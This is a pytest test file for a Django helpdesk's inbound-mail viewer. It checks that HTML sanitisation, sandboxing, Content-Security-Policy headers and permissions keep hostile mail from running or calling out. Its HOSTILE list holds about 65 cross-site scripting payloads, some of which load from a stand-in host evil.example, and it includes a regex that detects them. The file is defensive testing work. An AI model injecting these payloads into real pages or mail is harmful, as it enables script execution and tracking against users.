"""Agents see every mail that came and why it became what it did; what is hostile in it neither runs nor calls home."""

from __future__ import annotations

import re

import pytest
from django.urls import reverse

from communications.inbound.parsed import MailFile, ParsedMail
from communications.inbound.safe_html import has_remote, safe_body, safe_page
from communications.models import InboundMail, MailState
from tests.conftest import NOON
from tests.inbound.conftest import address_of, arrives, raw, ticket_of  # noqa: F401  arrives is a fixture
from tests.make import make_ticket
from tickets.take_in import take_in

# OWASP's and others' ways to make a page run something, each alone in a mail.
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<form action=//evil.example/><input name=p></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=# onclick=alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<body background=//evil.example/x.png>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div onmouseover=alert(1)>x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<td background=//evil.example/x>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img srcset='https://evil.example/x 2x'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href='https://ok.example' target=_blank onauxclick=alert(1)>x</a>",
    "<portal src=//evil.example>",
    "<dialog open onclose=alert(1)>",
    "<frameset onload=alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    "<plaintext><script>alert(1)</script>",
]
RUNS = re.compile(
    r"<\s*(script|iframe|object|embed|form|input|button|base|meta|link|style|svg|math|frame)|<[^>]*\son\w+\s*=|<[^>]*(href|src)"
    r"\s*=\s*[\"']?\s*(javascript|vbscript|data:text)|<[^>]*\sstyle\s*=|<img[^>]*src=[\"']?(https?:)?//|srcset|background\s*=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_h1_nothing_in_a_mail_runs_or_calls_home(hostile):
    assert len(HOSTILE) >= 60
    shown = safe_body(f"<p>Hello</p>{hostile}<p>Bye</p>", [])
    assert not RUNS.search(shown), shown


def test_h2_images_of_the_mail_itself_stay_and_those_of_others_come_only_when_asked():
    files = [MailFile("a.png", "image/png", b"PNG", "one@x"), MailFile("b.svg", "image/svg+xml", b"<svg>", "two@x")]
    html = '<img src="cid:one@x"><img src="cid:two@x"><img src="https://evil.example/p.gif">'
    assert safe_body(html, files).count("data:image/png;base64,UE5H") == 1
    assert "evil.example" not in safe_body(html, files)
    assert "svg" not in safe_body(html, files)
    assert 'src="https://evil.example/p.gif"' in safe_body(html, files, with_remote=True)


def test_a_mail_without_html_is_shown_as_text():
    assert "&lt;script&gt;" in safe_page(ParsedMail(text="<script>"))


def test_agents_see_a_mail_its_reason_and_its_original(cast, at_the_desk, arrives):  # noqa: F811
    mail = arrives(body="<p>Hi</p><script>alert(1)</script>", Content_Type="text/html")
    page = at_the_desk(cast.tom).get(address(mail, "change"))
    text = page.content.decode()
    assert page.status_code == 200
    assert mail.why in text
    assert "sandbox=" in text
    assert "<script>alert(1)</script>" not in text
    body = at_the_desk(cast.tom).get(address(mail, "body"))
    assert "alert(1)" not in body.content.decode()
    assert "default-src 'none'" in body["Content-Security-Policy"]
    assert "sandbox" in body["Content-Security-Policy"]
    source = at_the_desk(cast.tom).get(address(mail, "source"))
    assert source.content == bytes(mail.raw.content)
    assert source["Content-Disposition"].startswith("attachment")
    assert source["Content-Type"] == "application/octet-stream"


def test_h5_a_security_ticket_s_mail_is_seen_by_whom_the_ticket_is(cast, at_the_desk, arrives):  # noqa: F811
    ticket = make_ticket(cast.ben, category="security")
    mail = arrives(to=address_of(ticket))
    assert mail.about_id == ticket.pk
    for what in ("change", "body", "source"):
        assert at_the_desk(cast.tom).get(address(mail, what)).status_code == 404
        assert at_the_desk(cast.sam).get(address(mail, what)).status_code == 200
        assert at_the_desk(cast.eve).get(address(mail, what)).status_code == 403


def test_parked_mail_is_released_with_a_reason_and_becomes_a_ticket(cast, at_the_desk, arrives):  # noqa: F811
    mail = arrives(Precedence="bulk")
    desk = at_the_desk(cast.tom)
    desk.post(do(mail, "release"), {"why": ""})
    mail.refresh_from_db()
    assert mail.state == MailState.PARKED
    desk.post(do(mail, "release"), {"why": "a person wrote through a list"})
    take_in(NOON)
    mail.refresh_from_db()
    assert mail.state == MailState.TAKEN_IN
    assert ticket_of(mail).customer == cast.ben
    history = desk.get(address(mail, "history")).content.decode()
    assert "a person wrote through a list" in history


def test_a_suggested_link_is_accepted_by_one_click(cast, at_the_desk, arrives):  # noqa: F811
    ticket = make_ticket(cast.ben)
    mail = arrives(subject=f"More about {ticket.reference}", body="It is blue.")
    desk = at_the_desk(cast.tom)
    assert f"It belongs to {ticket.reference}" in desk.get(address(mail, "change")).content.decode()
    desk.post(do(mail, "link"))
    take_in(NOON)
    assert ticket.replies.filter(body="It is blue.", is_internal=False).exists()
    page = desk.get(reverse("admin:tickets_ticket_change", args=[ticket.pk])).content.decode()
    assert address(mail, "change") in page


def test_mail_that_could_not_be_read_is_shown_as_it_came(cast, at_the_desk, arrives):  # noqa: F811
    mail = arrives(raw("<div>" * 1_000, Content_Type="text/html"))
    text = at_the_desk(cast.tom).get(address(mail, "change")).content.decode()
    assert "nested more than 256 deep" in text
    assert "&lt;div&gt;&lt;div&gt;" in text


def address(mail: InboundMail, what: str) -> str:
    return reverse(f"admin:communications_inboundmail_{what}", args=[mail.pk])


def do(mail: InboundMail, verb: str) -> str:
    return reverse("admin:communications_inboundmail_do", args=[mail.pk, verb])


def test_html_that_unfolds_into_gigabytes_is_shown_as_its_text():
    opened = "".join(f"<b id=a{number}>" for number in range(250))
    mail = ParsedMail(text="the words", html=f"<div>{opened}</div>" + "<p>x" * 60_000)
    assert "<pre style='white-space: pre-wrap'>the words</pre>" in safe_page(mail)
    assert not has_remote(mail)


def test_an_image_that_is_named_thousands_of_times_is_not_shown_as_often():
    image = MailFile("a.png", "image/png", b"P" * 1024 * 1024, "one@x")
    shown = safe_body('<img src="cid:one@x">' * 10_000, [image])
    assert shown.count("data:image/png") == 8
    assert shown.count("(image)") == 9_992
